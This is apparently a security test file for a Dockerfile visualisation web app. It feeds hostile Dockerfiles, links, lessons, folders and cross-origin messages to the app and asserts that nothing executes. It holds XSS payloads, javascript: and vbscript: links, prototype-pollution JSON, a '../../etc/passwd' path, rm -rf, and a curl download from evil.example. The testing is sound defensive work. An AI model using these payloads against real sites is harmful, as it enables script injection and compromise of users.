// Hostile input: whatever a Dockerfile, a link, a lesson, a folder or another page says is shown as words. Nothing of it becomes an element, runs,
// leads elsewhere or is asked of a server.

import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { gfmTable, gfmTableHtml } from '../../www/node_modules/micromark-extension-gfm-table/index.js';
import { micromark } from '../../www/node_modules/micromark/index.js';
import { SUB_PATH, editorText, frameOf, launch, onPage, packagesAreHere, part, project, serve, until } from './harness.mjs';

const dist = join(project, 'dist');

/** Markup that ends what it may stand in, and runs `pwned` where it is taken for markup; without spaces, so that it can be a name. */
const MARKUP = '"></title></text></pre><x-hurt/onclick=pwned()><img/src="hurt.png"onerror=pwned()><script>pwned()</script><svg/onload=pwned()><a/href=javascript:pwned()>';
const ADDRESS = 'javascript:pwned()';
/** What every object of JavaScript has, and what changes all of them. */
const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'];
const POLLUTING = '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}';
const QUOTED = JSON.stringify(MARKUP);

/** One that is built, with all of that wherever Docker takes any text. */
const BUILT = `# syntax=docker/dockerfile:1 ${MARKUP}
# ${MARKUP} ${ADDRESS}
ARG HURT='${MARKUP}'
FROM debian:12 AS constructor
ARG HURT
LABEL '${MARKUP}'='${MARKUP}' __proto__='${ADDRESS}'
ENV TOLD='${MARKUP}' constructor='${ADDRESS}'
WORKDIR '/srv/${MARKUP}'
COPY [${QUOTED}, "${ADDRESS}", "/srv/"]
COPY <<"EOF" '/srv/${MARKUP}.html'
${MARKUP}
EOF
RUN apt-get update && apt-get install -y '${MARKUP}' ${ADDRESS} ${NAMES.join(' ')}
RUN npm install -g '${MARKUP}' ${NAMES.join(' ')} && pip install '${MARKUP}' ${NAMES.join(' ')} && curl -o '/opt/${MARKUP}' 'https://evil.example/${MARKUP}'
RUN <<EOF
'./${MARKUP}' --flag '${ADDRESS}'
cat '/srv/${MARKUP}' | tee "/opt/$HURT"
rm -rf '/srv/${MARKUP}'
EOF
FROM node:22 AS __proto__
COPY --from=constructor --chown='${MARKUP}' '/opt/${MARKUP}' '/app/${MARKUP}'
COPY . /app
RUN make '/app/${MARKUP}'
USER '${MARKUP}'
VOLUME ["/var/", ${QUOTED}]
HEALTHCHECK CMD '${MARKUP}' '${ADDRESS}'
ENTRYPOINT [${QUOTED}]
CMD ["${ADDRESS}"]
`;

/** One that stops: in the places of which Docker takes only some. */
const STOPPED = `# escape=${MARKUP}
# check=skip=${MARKUP};error=${ADDRESS}
# plimsoll: size=${MARKUP}
FROM ${MARKUP} AS ${MARKUP}
FROM --platform=${MARKUP} evil.example/${MARKUP}:${ADDRESS} AS ${ADDRESS}
MAINTAINER ${MARKUP}
EXPOSE ${MARKUP} ${ADDRESS}
STOPSIGNAL ${MARKUP}
SHELL [${QUOTED}]
ONBUILD RUN ${MARKUP}
RUN --mount=type=${MARKUP},target=${ADDRESS} true
COPY --from=${MARKUP} --${MARKUP} ${ADDRESS} /
ADD ${ADDRESS} /
ENV ${MARKUP}
HURT ${MARKUP}
FROM ${MARKUP}
RUN <<${MARKUP}
${MARKUP}
`;

/** One stage, of which a split is proposed and findings are mended. */
const ONE = `FROM golang:1.24
MAINTAINER ${MARKUP}
LABEL name='${MARKUP}'
WORKDIR /src
COPY . .
RUN apt-get update && apt-get install -y curl
RUN go build -ldflags '-X main.name=${MARKUP}' -o /server .
ENV NAME='${MARKUP}'
CMD ["/server", ${QUOTED}]
`;

const HISTORY = `IMAGE          CREATED       CREATED BY                                      SIZE      COMMENT
${MARKUP}   2 weeks ago   RUN /bin/sh -c ${MARKUP} # buildkit   12MB      ${MARKUP}
<missing>      2 weeks ago   COPY ${MARKUP} / # buildkit      5MB       ${ADDRESS}
`;

const FILES = ['Dockerfile', `${MARKUP}/a.bin`, `${MARKUP}.html`, ADDRESS, '__proto__/constructor/a.bin', 'package.json'];
const PACKAGES = `{${POLLUTING},"name":${QUOTED},"dependencies":{${POLLUTING},${QUOTED}:"1"}}`;
/** A build context as links carry it. */
const CONTEXT = ['folder', MARKUP, 'Dockerfile', ...FILES.flatMap((path) => [path, '3000000', path === 'package.json' ? `=${PACKAGES}` : ''])].join('\0');

/** A link to a state, or to a JSON as it is written. */
const fragmentOf = (state) => `#1.${deflateRawSync(typeof state === 'string' ? state : JSON.stringify(state)).toString('base64url')}`;

let browser;
let server;
let stranger;
/** What the servers answer beside dist/. */
const pages = new Map();

before(async () => {
  assert.ok(existsSync(join(dist, 'index.html')), 'dist/ is missing. Run: make build');
  server = await serve(dist, (name) => pages.get(name));
  stranger = await serve(dist, (name) => pages.get(name), () => ({}));
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await Promise.all([server, stranger].map((one) => one?.close()));
});

/** Whether a file of dist/ or of a test is at an address, or it needs no server. */
function isOurs(address) {
  const { protocol, origin, pathname } = new URL(address);
  if (['about:', 'blob:', 'data:'].includes(protocol)) return true;
  const name = pathname.slice(SUB_PATH.length) || 'index.html';
  return [server, stranger].some((one) => origin === one.origin) && pathname.startsWith(SUB_PATH) && (existsSync(join(dist, name)) || pages.has(name));
}

/** Collects in `heard` whatever hostile input may try: scripts, dialogs, other windows, other pages, and requests for what is no file of ours. */
async function listen(page, heard) {
  await page.addInitScript(() => {
    globalThis.pwned = () => console.error('a payload ran');
  });
  page.on('console', (message) => message.text() === 'a payload ran' && heard.push('script'));
  page.on('dialog', (dialog) => {
    heard.push('dialog');
    void dialog.dismiss();
  });
  page.on('popup', () => heard.push('window'));
  page.on('framenavigated', (frame) => !isOurs(frame.url()) && heard.push('page'));
  page.on('request', (request) => !isOurs(request.url()) && heard.push('request'));
}

/** In a page: what markup became, and what leads to a script. */
function strange() {
  const isElement = (one) => one.matches('x-hurt, [src*="hurt.png"], script:not([src], head *), object, embed, base, foreignObject:not([data-pl="inside-map"] *), .pl-app iframe');
  const isScript = ({ name, value }) => name.startsWith('on') || (/^(xlink:)?(href|src|action|formaction|srcdoc)$/.test(name) && /^\s*(javascript|vbscript|data:text)/i.test(value));
  const wrong = [...document.querySelectorAll('*')].filter((one) => isElement(one) || [...one.attributes].some(isScript));
  return [...wrong.map((one) => one.outerHTML.slice(0, 200)), ...('polluted' in {} ? ['Object.prototype was changed'] : [])];
}

const assertNothingStrange = async (frame, what) => assert.deepEqual(await frame.evaluate(strange), [], what);

/** Opens the page with something hostile; `hasPolicy` false: as a browser would show it that knows no Content-Security-Policy. */
async function visit(path, body, { hasPolicy = true, expected, before: prepare } = {}) {
  const heard = [];
  const options = {
    path,
    expected,
    context: { bypassCSP: !hasPolicy, permissions: ['clipboard-read', 'clipboard-write'] },
    before: async (page) => {
      await listen(page, heard);
      await prepare?.(page);
    },
  };
  await onPage(browser, server, options, async (page) => {
    await part(page, 'exports-button').waitFor();
    await packagesAreHere(page);
    await body(page, heard);
    await assertNothingStrange(page, 'at the end');
    assert.deepEqual(heard, []);
  });
}

test('the listener hears what it listens for', () =>
  visit(
    '',
    async (page, heard) => {
      await page.evaluate((markup) => {
        const place = document.querySelector('.pl-app').appendChild(document.createElement('div'));
        place.innerHTML = `${markup}<script src="data:,"></script>`;
        Object.prototype.polluted = 1;
        window.open('about:blank');
        setTimeout(() => alert('a'));
      }, MARKUP);
      for (const what of ['script', 'request', 'dialog', 'window']) await until(page, () => heard, (all) => all.includes(what), what);
      const found = (await page.evaluate(strange)).join('\n');
      for (const what of ['<x-hurt', '<img', '<script', '<svg', '<a ', 'Object.prototype']) assert.ok(found.includes(what), what);
      await page.evaluate(() => {
        delete Object.prototype.polluted;
        document.querySelector('x-hurt').parentElement.remove();
        location.href = 'hurt.html';
      });
      await until(page, () => heard, (all) => all.includes('page'), 'page');
      heard.length = 0;
    },
    { hasPolicy: false, expected: [/./] },
  ));

/** What the tabs are called in `data-pl`. */
const PANELS = ['layers', 'inside', 'findings', 'split', 'assumptions', 'compare', 'read'];

/** Goes through all that shows a text; `told` are the words of each part. */
async function walk(page) {
  const told = {};
  for (const panel of PANELS) {
    await part(page, `tab-${panel}`).click();
    await part(page, panel).waitFor();
    // What is folded: each may bring more.
    for (const kind of ['[aria-expanded="false"]', 'details:not([open]) > summary']) {
      for (const one of await part(page, panel).locator(kind).all()) if (await one.isVisible()) await one.click();
    }
    told[panel] = await part(page, panel).innerText();
    await assertNothingStrange(page, panel);
  }
  await part(page, 'tab-inside').click();
  for (const place of new Set(await part(page, 'inside-table').locator('button').allInnerTexts())) {
    await part(page, 'inside-table').getByRole('button', { name: place, exact: true }).click();
    await until(page, () => part(page, 'inside-way').innerText(), (way) => way.includes(place), place);
    told.inside += await part(page, 'inside').innerText();
    await assertNothingStrange(page, `inside ${place}`);
    await part(page, 'inside-way').getByRole('button').first().click();
  }
  for (const layer of await page.locator('.pl-quay-picture [data-pl="layer"]').all()) await layer.hover({ force: true });
  told.quay = await part(page, 'quay').evaluate((quay) => [...quay.querySelectorAll('text, title, [aria-label]')].map((one) => one.getAttribute('aria-label') ?? one.textContent).join('\n'));
  if (await part(page, 'step-open').isVisible()) {
    await part(page, 'step-open').click();
    told.player = '';
    for (let isLast = false; !isLast; ) {
      told.player += await part(page, 'player').innerText();
      await assertNothingStrange(page, 'a step');
      isLast = (await part(page, 'step-next').getAttribute('aria-disabled')) === 'true';
      if (!isLast) await part(page, 'step-next').click();
    }
    await part(page, 'step-close').click();
  }
  await part(page, 'editor').locator('.cm-content').focus();
  told.editor = '';
  for (let at = 0; at < 8; at++) {
    await page.keyboard.press('F8');
    await page.locator('.cm-tooltip').waitFor();
    told.editor += await page.locator('.cm-tooltip').innerText();
    await assertNothingStrange(page, 'the editor');
  }
  await page.keyboard.press('Escape');
  return told;
}

/** Words of the markup, as they are read where it is shown. */
const SHOWN = '<x-hurt/onclick=pwned()>';

/** What a button of *Share* saves. */
async function saved(page, kind) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator(`[data-export="${kind}"]`).click()]);
  return readFileSync(await download.path(), 'utf8');
}

async function copied(page, kind) {
  await page.evaluate(() => navigator.clipboard.writeText(''));
  await page.locator(`[data-export="${kind}"]`).click();
  return until(page, () => page.evaluate(() => navigator.clipboard.readText()), (text) => text !== '', kind);
}

/** Opens a file as anybody's site would show it, under no policy. */
async function show(context, heard, name, file, body = async () => {}) {
  pages.set(name, file);
  const other = await context.newPage();
  await listen(other, heard);
  await other.goto(stranger.url + name);
  await body(other);
  await assertNothingStrange(other, name);
  await other.close();
}

for (const hasPolicy of [true, false]) {
  test(`a Dockerfile, a folder and a history, ${hasPolicy ? 'under the policy' : 'with nothing but the page to keep them out'}`, () =>
    visit(
      fragmentOf({ text: BUILT, context: CONTEXT, other: STOPPED, history: HISTORY, target: '__proto__' }),
      async (page) => {
        const told = await walk(page);
        for (const name of ['layers', 'inside', 'assumptions', 'compare', 'read', 'quay', 'player']) assert.ok(told[name].includes(SHOWN), name);
        assert.match(await part(page, 'context-summary').innerText(), /x-hurt/);
      },
      { hasPolicy },
    ));
}

test('one that stops and one that is split and mended', () =>
  visit(fragmentOf({ text: STOPPED }), async (page) => {
    const told = await walk(page);
    for (const name of ['layers', 'read', 'quay']) assert.ok(told[name].includes(SHOWN), name);
    assert.ok((await part(page, 'verdict').innerText()).includes(SHOWN));
    await page.evaluate((hash) => { location.hash = hash; }, fragmentOf({ text: ONE, panel: 'split' }));
    await part(page, 'take-split').waitFor();
    const split = await walk(page);
    for (const name of ['layers', 'findings', 'split', 'read']) assert.ok(split[name].includes(SHOWN), name);
    await part(page, 'tab-split').click();
    await part(page, 'take-split').click();
    await part(page, 'split').getByText('split already').waitFor();
    await part(page, 'tab-findings').click();
    await assertNothingStrange(page, 'what was made of it');
  }));

test('what is exported of it stands as words in any page that shows it', () =>
  visit(fragmentOf({ text: BUILT, context: CONTEXT, target: '__proto__' }), async (page, heard) => {
    await part(page, 'exports-button').click();
    const [svg, md, txt, json] = [await saved(page, 'svg'), await saved(page, 'md'), await saved(page, 'txt'), await saved(page, 'json')];
    for (const [name, text] of Object.entries({ svg, md, txt, json })) assert.ok(text.includes('x-hurt'), name);
    const [element, frame] = [await copied(page, 'copy-link-element'), await copied(page, 'copy-link-frame')];
    const context = page.context();
    await show(context, heard, 'shown.svg', { type: 'image/svg+xml', body: svg });
    const html = micromark(md, { allowDangerousHtml: true, extensions: [gfmTable()], htmlExtensions: [gfmTableHtml()] });
    await show(context, heard, 'shown.html', { type: 'text/html; charset=utf-8', body: `<!DOCTYPE html><link rel="icon" href="data:,">${html}` }, async (other) => {
      assert.ok((await other.locator('table').innerText()).includes(SHOWN));
    });
    await show(context, heard, 'element.html', { type: 'text/html; charset=utf-8', body: `<!DOCTYPE html><link rel="icon" href="data:,">${element}${frame}` }, async (other) => {
      assert.ok((await other.locator('plimsoll-playground pre').textContent()).includes(SHOWN));
      assert.deepEqual(await other.locator('plimsoll-playground li').allTextContents(), ['constructor', '__proto__']);
      await assertNothingStrange(await frameOf(other, 'plimsoll-playground'), 'the embed');
    });
  }));

const PLAIN = 'FROM alpine:3.20\n';
const fieldsOf = (fields) => JSON.stringify(fields).slice(1, -1);
/** Fields with something hostile in each. Each link is opened to its text. */
const LINKS = [
  `${POLLUTING}`,
  `"sizes":[["__proto__",1],["constructor",2],[${QUOTED},3]],"line":4294967295,"step":4294967295`,
  ...['target', 'platform', 'size', 'scale', 'panel', 'example', 'context', 'other', 'history'].flatMap((field) => [MARKUP, ADDRESS, '__proto__'].map((value) => fieldsOf({ [field]: value }))),
  // A lesson may be any address of this origin, and of no other.
  ...[ADDRESS, '//evil.example/a.md', 'data:text/markdown,a', 'blob:a'].map((lesson) => fieldsOf({ lesson })),
  ...[`[{${POLLUTING},"Size":123456789,"RepoTags":[${QUOTED}],"Config":{"Labels":{${POLLUTING},"a":${QUOTED}}}}]`, `{${POLLUTING}}`].map((history) => fieldsOf({ history, panel: 'compare' })),
  fieldsOf({ context: ['folder', '__proto__', 'constructor', '__proto__', '1', '={}', '../../etc/passwd', '2', ''].join('\0') }),
];
/** And these are refused. */
const REFUSED = [`"sizes":[{${POLLUTING}}]`, '"line":9007199254740991', '"step":4294967296', `"target":{${POLLUTING}}`];

test('links: what they carry beside the text is one of ours, or passed over, or refused with a sentence', () =>
  visit('', async (page) => {
    const open = (text, fields) => page.evaluate((hash) => { location.hash = hash; }, fragmentOf(`{"text":${JSON.stringify(text)},${fields}}`));
    for (const [at, fields] of LINKS.entries()) {
      const text = `# ${at}\n${PLAIN}`;
      await open(text, fields);
      await until(page, () => editorText(page), (now) => now === text, fields);
      await assertNothingStrange(page, fields);
      if (fields.includes('"Size')) await part(page, 'compare-facts').waitFor();
    }
    const before = await editorText(page);
    for (const [at, fields] of REFUSED.entries()) {
      if (await part(page, 'context-hide').isVisible()) await part(page, 'context-hide').click();
      await part(page, 'context-told').waitFor({ state: 'hidden' });
      await open(`# refused ${at}\n`, fields);
      await part(page, 'context-told').getByText('damaged').waitFor();
      assert.equal(await editorText(page), before, fields);
    }
  }));

const LESSON = `+++
title = ${QUOTED}
summary = ${QUOTED}
hints = [${QUOTED}, "${ADDRESS}"]

[[goal]]
kind = "ships-at-most"
size = "5MB"
say = ${QUOTED}
+++
${MARKUP}

[script](${ADDRESS}) [tab](java\tscript:pwned()) [letters](JaVaScRiPt:pwned()) [old](vbscript:pwned()) [data](data:text/html,${encodeURIComponent('<script>pwned()</script>')}) [entity](javascript&colon;pwned()) <${ADDRESS}>
[reference] [elsewhere](//evil.example/) ![script](${ADDRESS}) ![](icons/icon-192.png "\\"onerror=pwned()")

<script>pwned()</script>

[reference]: ${ADDRESS} ${QUOTED}

\`\`\`dockerfile
${STOPPED}\`\`\`

\`\`\`dockerfile answer ${MARKUP}
${STOPPED}\`\`\`
`;

test('a lesson, whose words are words and whose links lead to the web or nowhere', async () => {
  pages.set('lesson.md', { type: 'text/markdown', body: LESSON });
  await visit('?lesson=lesson.md', async (page) => {
    const prose = part(page, 'lesson-prose');
    await prose.waitFor();
    for (const name of ['Show hint 1 of 2', 'Show hint 2 of 2', 'Show an answer']) await page.getByRole('button', { name }).click();
    for (const name of ['title', 'prose', 'goals', 'hints', 'answer']) assert.ok((await part(page, `lesson-${name}`).innerText()).includes(SHOWN), name);
    assert.deepEqual(await prose.locator('[href], [src]').evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? one.getAttribute('src'))), ['//evil.example/', 'icons/icon-192.png']);
    // None of the others leads anywhere, nor is it a stop of the Tab key.
    for (const link of await prose.locator('a:not([href])').all()) await link.click();
    await prose.locator('a:not([href])').nth(5).waitFor();
  });
  pages.set('lesson.md', { type: 'text/markdown', body: LESSON.replace('title', '__proto__.polluted = 1\nconstructor.prototype.polluted = 1\ntitle') });
  await visit('?lesson=lesson.md', (page) => part(page, 'lesson-wrong').getByText('there is no such field').waitFor());
});

test('a folder whose files have hostile names and texts', () => {
  const folder = mkdtempSync(join(tmpdir(), 'plimsoll-'));
  // No name on a disk has a slash.
  const name = MARKUP.replaceAll('/', ' ');
  const root = join(folder, name);
  const files = { Dockerfile: 'FROM node:22\nCOPY . /app/\nRUN npm ci\n', 'package.json': PACKAGES, '.dockerignore': `${MARKUP}\n__proto__\n`, [`${name}.html`]: MARKUP, [ADDRESS]: ADDRESS, [`__proto__/${name}/constructor`]: 'x'.repeat(9000) };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  const shown = '<x-hurt onclick=pwned()>';
  return visit('', async (page) => {
    const session = await page.context().newCDPSession(page);
    const drop = async (...files) => {
      const data = { items: [], files, dragOperationsMask: 1 };
      for (const type of ['dragEnter', 'dragOver', 'drop']) await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data });
    };
    await drop(root);
    await until(page, () => part(page, 'context').innerText(), (words) => words.includes(shown), 'its name');
    await until(page, () => editorText(page), (text) => text === files.Dockerfile, 'its text');
    const told = await walk(page);
    for (const one of [shown, ADDRESS.replace('()', '')]) assert.ok(told.inside.includes(one), one);
    writeFileSync(join(root, `${name}.bin`), Buffer.alloc(9000));
    await drop(join(root, `${name}.bin`));
    await until(page, () => part(page, 'context-told').innerText(), (words) => words.includes(shown), 'the name that is refused');
  }).finally(() => rmSync(folder, { recursive: true }));
});

/** Has a page of the other origin say `messages`, each a JSON, to its `frame` or to the `window` that it opened, which is `page`, and waits until that has heard them. */
async function say(other, target, page, messages) {
  await page.evaluate((count) => {
    // After the page's own.
    globalThis.hasHeard = new Promise((done) => addEventListener('message', () => --count || done()));
  }, messages.length);
  await other.evaluate(([target, messages]) => {
    const to = target === 'frame' ? window.frames[0] : globalThis.opened;
    for (const message of messages) to.postMessage({ plimsoll: 1, ...JSON.parse(message) }, '*');
  }, [target, messages]);
  await page.evaluate(() => globalThis.hasHeard);
}

/** A page of the other origin with an embed that is told to be in a page of `origin`; `body` has both. `wanted` is what the listener hears of the test itself. */
const onStranger = (origin, body, wanted = []) => {
  const heard = [];
  pages.set('frames.html', { type: 'text/html', body: `<!DOCTYPE html><link rel="icon" href="data:,"><iframe src="${server.url}?embed=${origin}&view=all${fragmentOf({ text: PLAIN })}" width="900" height="700"></iframe>` });
  const options = { path: 'frames.html', expected: [/^request to /], before: (page) => listen(page, heard) };
  return onPage(browser, stranger, options, async (page) => {
    const frame = await (await page.locator('iframe').elementHandle()).contentFrame();
    await part(frame, 'embed-open').waitFor({ state: 'attached' });
    await body(page, frame);
    await assertNothingStrange(frame, 'the embed');
    assert.deepEqual(heard, wanted);
  });
};

const EVIL = JSON.stringify({ type: 'set-text', text: 'FROM evil\n' });

test('messages: only the page around is heard, from the origin that it said', () =>
  onStranger(server.origin, async (page, frame) => {
    await say(page, 'frame', frame, [EVIL, JSON.stringify({ type: 'set-options', options: { view: 'editor' } })]);
    assert.equal(await editorText(frame), PLAIN);
    // Nor is one that opens a window.
    const [opened] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate((url) => {
        globalThis.opened = window.open(url);
      }, `${server.url}?embed=${stranger.origin}${fragmentOf({ text: PLAIN })}`),
    ]);
    await part(opened, 'embed-open').waitFor({ state: 'attached' });
    await say(page, 'window', opened, [EVIL]);
    assert.equal(await editorText(opened), PLAIN);
    await opened.close();
  }, ['window']));

test('messages: what the page around says is a choice of ours, a text, or refused', () =>
  onStranger(stranger.origin, async (page, frame) => {
    await page.evaluate(() => {
      globalThis.codes = [];
      addEventListener('message', ({ data }) => data.type === 'error' && globalThis.codes.push(data.code));
    });
    const refused = [...NAMES.map((type) => JSON.stringify({ type })), `{"type":"set-options","options":{${POLLUTING}}}`, '{"type":"set-options","options":{"constructor":"a"}}', '{"type":"set-text","text":["FROM evil"]}', '{"type":"set-options","options":[1]}'];
    await say(page, 'frame', frame, refused);
    await until(page, () => page.evaluate(() => globalThis.codes), (codes) => codes.length === refused.length && codes.every((code) => code === 'bad-message'), 'all are refused');
    const options = Object.fromEntries(['target', 'platform', 'size-kind', 'theme', 'lang', 'toolbar'].map((name) => [name, MARKUP]));
    await say(page, 'frame', frame, [JSON.stringify({ type: 'set-options', options }), JSON.stringify({ type: 'set-text', text: STOPPED })]);
    await until(page, () => editorText(frame), (text) => text === STOPPED, 'the text');
    assert.ok((await part(frame, 'verdict').innerText()).includes(SHOWN));
    assert.equal(await page.evaluate(() => globalThis.codes.length), refused.length);
  }));
